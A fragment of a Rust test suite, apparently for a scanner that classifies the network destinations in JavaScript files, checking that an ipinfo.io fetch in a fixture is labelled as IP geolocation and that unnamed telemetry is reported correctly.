        for d in t["label"]["destinations"].as_array().unwrap() {
            assert_eq!(d["role"], "named-not-contacted", "{d}");
        }
        assert!(
            t["summary"]
                .as_str()
                .unwrap()
                .starts_with("no telemetry service named"),
            "{t:#}"
        );
    }
    let requested = tempfile::tempdir().unwrap();
    write(
        requested.path(),
        "a.js",
        b"fetch('https://ipinfo.io/json').then(r => r.json()).then(g => console.log('You are in ' + g.country + ', see https://ipinfo.io/json for details'));",
    );
    let (_, doc) = scan_json([requested.path()]);
    let d = &doc["targets"][0]["label"]["destinations"];
    assert!(
        d.as_array()
            .unwrap()
            .iter()
            .any(|d| d["host"] == "ipinfo.io" && d["role"] == "ip-geolocation"),
        "{d:#}"
    );
}
